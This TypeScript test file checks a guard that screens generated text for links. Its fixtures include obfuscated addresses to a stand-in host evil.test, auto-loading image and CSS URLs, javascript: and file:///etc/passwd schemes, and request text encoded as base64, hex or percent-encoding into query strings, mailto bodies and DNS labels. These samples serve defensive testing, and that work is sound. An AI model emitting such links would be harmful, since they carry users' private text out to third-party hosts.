import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { About } from '../guard.ts';
import { ABOUT, MEANS, masked, read, readWhole } from '../testing.ts';
import { links } from './index.ts';

type Settings = Parameters<typeof links.build>[1];
const guard = (
  settings: Settings = { allow: ['example.com', '*.example.com'], images: ['img.example.com'] },
) => links.build('links', settings, MEANS);
const reasons = async (text: string, settings?: Settings) =>
  (await readWhole(guard(settings), text)).map(({ reason }) => reason.slice('links.'.length));

test('one host in every dress', async () => {
  const dressed = [
    'https://evil.test',
    'HTTPS://EVIL.TEST/',
    'https://evil.test.',
    'https://evil.test:443/',
    'https://example.com.evil.test/',
    'https://example.com%2eevil.test/',
    'https://ev%69l.test/',
    'https:\\\\evil.test/',
    'https:evil.test',
    'https://ｅｖｉｌ.test/',
    'https://exаmple.com/',
    'https://xn--exmple-4nf.com/',
    'https://3232235777/',
    'www.evil.test',
  ];
  for (const text of dressed) {
    assert.deepEqual(await reasons(`see ${text} now`), ['host'], text);
    assert.notDeepEqual(await reasons(`[x](${text})`), [], `in Markdown: ${text}`);
  }
  assert.deepEqual(await reasons('https://example.com:8443/'), ['host'], 'another port is another server');
  assert.deepEqual(await reasons('https://example.com:8443/', { allow: ['example.com:8443'] }), []);
});

test('wherever a renderer finds an address', async () => {
  const texts = [
    '| a | [b](//evil.test) |',
    '<a href=//evil.test>x</a>',
    "<a\nhref = '&#104;ttps:&#47;&#47;evil.test'>x</a>",
    '<form action="https&colon;//evil.test">',
    '[x](https&#58;//evil.test)',
    '[x](https\\://evil.test "title")',
    '[x](</\\evil.test>)',
    '[x](\n  //evil.test)',
    '[x][r]\n\n[r]:\n  //evil.test',
    '```\ncurl https://evil.test\n```',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  ];
  for (const text of texts) assert.notDeepEqual(await reasons(text), [], text);
});

test('what is fetched unasked has a list of its own', async () => {
  const texts = [
    '![x](https://example.com/x.png)',
    '![x](\n<https://example.com/x.png>)',
    '[![x](https://example.com/x.png)](https://example.com)',
    '![x][r] and\n\n[r]: https://example.com/x.png',
    '[r]: https://example.com/x.png\n\n![x][r]',
    '[r]: https://example.com/x.png\n\n![R] ',
    '<img srcset="/a.png 1x, https://example.com/b.png 2x">',
    '<p style="background:url(https://example.com/x)">',
    '<style>@import "https://example.com/x.css"; a { b: url(https://example.com/x) }</style>',
    '<link rel=prefetch href="https://example.com/x">',
    '<svg><image href="https://example.com/x"/></svg>',
    '<video poster=https://example.com/x>',
  ];
  for (const text of texts) assert.ok((await reasons(text)).includes('image'), text);
  assert.deepEqual(await reasons('![x](https://img.example.com/x.png) ![](/own.png)'), []);
  assert.deepEqual(await reasons('![x](https://example.com/x.png)', {}), ['image'], 'without a list, none');
});

test('a picture however it is described, a definition wherever it stands', async () => {
  const at = 'https://example.com/x.png';
  const texts = [
    `![${'a'.repeat(300)}](${at})`,
    `![a [b] c](${at})`,
    `![a \`]\` b](${at})`,
    `![a \`[\` b](${at})`,
    `![a \`](\` b](${at})`,
    `![${'['.repeat(100)}${']'.repeat(100)}](${at})`,
    `![a\nb](${at})`,
    `![x](${' '.repeat(20)}\n  ${at})`,
    `![${'a'.repeat(300)}][r]\n\n[r]: ${at}`,
    `[r]: ${at}\n\n![${'a'.repeat(300)}][r]`,
    `![a\nb][r]\n\n[r]: ${at}`,
    `![x][a\n b]\n\n[A  b]: ${at}`,
    `[a b]: ${at}\n\n![x][a\n B]`,
    `![x][ẞ]\n\n[SS]: ${at}`,
    `![[x]][r]\n\n[r]: ${at}`,
    `[r]: ${at}\n\n![[x]][r]`,
    `- > [r]: ${at}\n\n![x][r]`,
    `![a\nb]\n\n[a\nb]: ${at}`,
    `<img src${' '.repeat(20)}=${' '.repeat(20)}"${at}">`,
    `<link ${'x'.repeat(300)} href="${at}">`,
    `<link title=">" href="${at}">`,
    `<link title="<a " href="${at}">`,
  ];
  for (const text of texts) {
    assert.ok((await reasons(text)).includes('image'), text);
    assert.ok(
      (await read(guard().open(ABOUT), text.split(''))).some((one) => one.reason === 'links.image'),
      text,
    );
  }
  const fine = [
    `![a [b] c](https://img.example.com/x.png) and [a](${at})`,
    `[![x](https://img.example.com/x.png)](${at}) [b](${at})`,
    `\`![\`\n\n[a](${at}), ${at}`,
    `![x][r] and [b](${at}) or [c]\n\n[r]: https://img.example.com/x.png\n[c]: ${at}`,
    `<link rel=x> <a href="${at}">a</a>`,
    `map[a]: // none`,
  ];
  for (const text of fine) assert.deepEqual(await reasons(text), [], text);
});

test('schemes that run or read', async () => {
  for (const text of [
    '[x](JaVaScRiPt:alert(1))',
    '<a href="java\tscript:x()">',
    'file:///etc/passwd',
    'data:text/html;base64,PHM+',
  ]) {
    assert.deepEqual(await reasons(text, {}), ['scheme'], text);
  }
  assert.deepEqual(await reasons('Data: as follows. file: none. javascript: a language.', {}), []);
});

const asked = (...texts: string[]): About => ({
  ...ABOUT,
  asked: { texts: texts.map((text) => ({ provenance: 'user', text })), seed: new Uint8Array(32) },
});
const carried = async (text: string, about: About, settings: Settings = {}) =>
  (await read(guard(settings).open(about), text.split(/(?<=e)/))).map(({ reason }) => reason);

test('text of the request in an address, in clear or encoded, also where the host is allowed', async () => {
  const said = 'The merger with Nightjar Holdings closes on the third of March for nine million.';
  const about = asked(
    said,
    'Please summarise https://news.test/a/long-title-of-some-article-about-nothing?page=1',
  );
  const stolen = said.slice(0, 60);
  const ways = [
    encodeURIComponent(stolen),
    Buffer.from(stolen).toString('base64url'),
    Buffer.from(stolen).toString('hex'),
    stolen.toUpperCase().replaceAll(' ', '+'),
  ];
  for (const way of ways) {
    assert.deepEqual(await carried(`[a](https://x.test/?q=${way})`, about), ['links.prompt_text'], way);
    assert.deepEqual(await carried(`[a](https://x.test/?q=${way})`, about, { allow: ['x.test'] }), [
      'links.prompt_text',
    ]);
  }
  for (const text of [
    `see evil.test/c?d=${encodeURIComponent(stolen)} now`,
    `see evil.test?${Buffer.from(stolen).toString('base64url')}`,
    `[write](mailto:a@x.test?body=${encodeURIComponent(stolen)})`,
    `mailto:a@x.test?body=${encodeURIComponent(stolen)}`,
    `1https://x.test/?q=${encodeURIComponent(stolen)}`,
    `_https://x.test/?q=${encodeURIComponent(stolen)}_`,
  ]) {
    assert.deepEqual(await carried(text, about, {}), ['links.prompt_text'], text);
  }
  assert.deepEqual(await carried('In src/main.rs/a, ASP.NET/C#, a/b?c and mailto:a@x.test', about, {}), []);
  const label = Buffer.from(stolen).toString('hex');
  const dns = `https://${label.slice(0, 60)}.${label.slice(60, 110)}.x.test/`;
  assert.deepEqual(await carried(dns, about), ['links.prompt_text']);
  assert.deepEqual(
    await carried('https://news.test/a/long-title-of-some-article-about-nothing?page=1', about),
    [],
  );
  assert.deepEqual(await carried('https://x.test/?q=nightjar+holdings', about), []);
});

test('what looks like data, where the host is not on the list', async () => {
  const secret = Buffer.from('user=ada; balance=1200; next=friday').toString('base64');
  assert.deepEqual(await carried(`https://x.test/p/${secret}`, ABOUT), ['links.encoded']);
  assert.deepEqual(await carried(`https://x.test/p/${secret}`, ABOUT, { allow: ['x.test'] }), []);
  const fine = [
    'https://github.com/nodejs/node/commit/5f7aab4c1dbd2ab15e2ffd4b9f2a7b6d2b4f0a31',
    'https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
    'https://en.wikipedia.org/wiki/List_of_the_longest_English_words_with_one_syllable',
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
    'https://example.com/a/7d444840-9dc0-11d1-b245-5ffdce74fad2',
    'https://support.example.com/en/articles/9767949-api-key-best-practices-keeping-your-keys-safe-and-secure',
    'Over `http://` or https://, such as https://<host>/, http://[host]:80/, https://$HOST/x, https://... and http://:80',
  ];
  for (const text of fine) assert.deepEqual(await carried(text, ABOUT), [], text);
});

test('a mask takes the address and leaves the words', async () => {
  const text =
    'See [the plan](https://evil.test/x "t"), <a href="https://evil.test">it</a>, https://evil.test.';
  assert.equal(
    masked(text, await readWhole(guard(), text)),
    'See [the plan](#removed "t"), <a href="#removed">it</a>, [address removed].',
  );
});

test('harmless text leaves at once; an address waits for its end', async () => {
  const reader = guard().open(ABOUT);
  const clear = async (piece: string) => (await reader.push(piece)).clear;
  assert.equal(await clear('Here is a list [1] of a = c'), 27);
  assert.equal(await clear(' (see h'), 33);
  assert.equal(await clear('ere) https://exam'), 39);
  assert.equal(await clear('ple.com/a'), 39);
  assert.equal(await clear(' x'), 62);
});

test('linear in what cannot end', async () => {
  for (const piece of [
    '![',
    '](',
    '[a]:',
    '<a href=',
    'url(',
    'https:',
    '=',
    '(((',
    'www.',
    'a.bc/',
    'a.b?',
    '![[',
    '`]',
    '<a "',
  ]) {
    const reader = guard({}).open(ABOUT);
    for (let i = 0; i < 20; i++) await reader.push(piece.repeat(5_000));
    await reader.end();
  }
});
